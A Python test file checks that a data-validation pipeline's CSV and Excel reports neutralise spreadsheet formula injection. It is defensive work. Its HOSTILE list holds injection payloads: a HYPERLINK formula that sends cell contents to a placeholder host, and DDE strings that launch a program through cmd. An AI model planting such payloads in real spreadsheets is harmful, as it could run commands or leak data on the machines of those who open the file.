"""The validation report files (CSV and validasi.xlsx) keep hostile values as inert text.

Rejected rows are listed with the value as typed; a value such as ``=HYPERLINK(…)`` or
``@SUM(…)`` must not become a formula when the data team opens the file in Excel or
LibreOffice (CSV injection). Both files go through the one rule of
:mod:`kinerja_analysis.core.cells`; the workbook through the one XLSX writer.
"""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from test_loading import _edit_csv, _write_mini
from typer.testing import CliRunner

from kinerja_analysis.core.cells import FORMULA_START, formula_like, inert_frame, inert_text
from kinerja_analysis.pipeline.cli import app

HOSTILE = [
    '=HYPERLINK("http://contoh.invalid/?x="&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "  =1+1",  # the reader trims spaces: listed as '=1+1
]


def test_inert_text_marks_every_formula_start_and_nothing_else():
    for start in FORMULA_START:
        v = f"{start}1+1"
        assert inert_text(v) == "'" + v
        assert not formula_like(inert_text(v))
    assert inert_text("  @x") == "'  @x"
    for v in ("Dinas Kesehatan", "Kecamatan-Timur", "a=b", "", "'=quoted already"):
        assert inert_text(v) == v
    for v in (7, 1.5, None, np.nan, pd.NA, pd.Timestamp("2024-01-01")):
        assert inert_text(v) is v


def test_inert_frame_keeps_numbers_dates_and_missing_values():
    df = pd.DataFrame(
        {
            "=kolom": ["=1+1", "ok", None],
            "n": [-1, 2, 3],
            "x": [-0.5, np.nan, 1.0],
            "s": pd.Series(["-2", pd.NA, "b"], dtype="string"),
            "t": pd.to_datetime(["2024-01-01", None, "2024-03-01"]),
        }
    )
    out = inert_frame(df)
    assert list(out.columns) == ["'=kolom", "n", "x", "s", "t"]
    assert out["'=kolom"].tolist()[:2] == ["'=1+1", "ok"]
    assert out["'=kolom"].isna().iloc[2]
    assert out["n"].tolist() == [-1, 2, 3] and out["n"].dtype == df["n"].dtype
    assert out["x"].equals(df["x"])
    assert out["s"].iloc[0] == "'-2" and pd.isna(out["s"].iloc[1])
    assert out["t"].equals(df["t"])
    assert df.columns[0] == "=kolom" and df.iloc[0, 0] == "=1+1"  # input untouched


@pytest.fixture(scope="module")
def hostile_out(tmp_path_factory) -> tuple[Path, Path]:
    """A small dataset whose rejected rows carry formulas, validated by the CLI."""
    root = tmp_path_factory.mktemp("inert")
    data = _write_mini(root / "data")
    skp = pd.read_csv(data / "skp.csv", dtype=str, keep_default_na=False)
    extra = skp.iloc[[0] * len(HOSTILE)].copy()
    extra["realisasi"] = HOSTILE  # not a number: each row rejected with its value
    extra["indikator"] = HOSTILE[::-1]  # free text of the same rows, as typed
    pd.concat([skp, extra], ignore_index=True).to_csv(data / "skp.csv", index=False)
    _edit_csv(data / "perilaku.csv", 2, "skor", "@SUM(1+1)")
    out = root / "validasi"
    res = CliRunner().invoke(app, ["validate", str(data), "--out", str(out)])
    assert res.exit_code == 1, res.output
    return data, out


def test_rejects_csv_files_hold_no_formula(hostile_out):
    _, out = hostile_out
    files = sorted(out.rglob("*.csv"))
    assert out / "masalah.csv" in files and out / "penolakan" / "skp.csv" in files
    seen = set()
    for f in files:
        with f.open(newline="", encoding="utf-8") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not formula_like(cell), (f.name, cell)
                    seen.add(cell)
    # nothing dropped: each hostile value is there, marked as text
    for v in HOSTILE:
        assert "'" + v.strip() in seen, v
    assert "'@SUM(1+1)" in seen


def test_rejects_name_file_row_column_value(hostile_out):
    _, out = hostile_out
    issues = pd.read_csv(out / "masalah.csv", dtype=str, keep_default_na=False)
    hit = issues[(issues["file"] == "skp.csv") & (issues["kolom"] == "realisasi")]
    assert set(hit["nilai"]) >= {"'" + v.strip() for v in HOSTILE}
    assert hit["baris"].astype(int).min() >= 6  # the appended rows: lines 6.. of skp.csv


def test_validation_workbook_holds_no_formula(hostile_out):
    from openpyxl import load_workbook

    _, out = hostile_out
    path = out / "validasi.xlsx"
    assert path.is_file()
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name).decode("utf-8")
                assert not re.search(r"<f[ >]", xml), name
    wb = load_workbook(path)
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f"
                if isinstance(c.value, str):
                    texts.append(c.value)
                    if c.value.lstrip(" ").startswith(FORMULA_START):
                        assert c.quotePrefix, c.value
    for v in HOSTILE:
        assert any(v.strip() in t for t in texts), v
    assert any(name.startswith("Ditolak – ") for name in wb.sheetnames)  # rejected rows
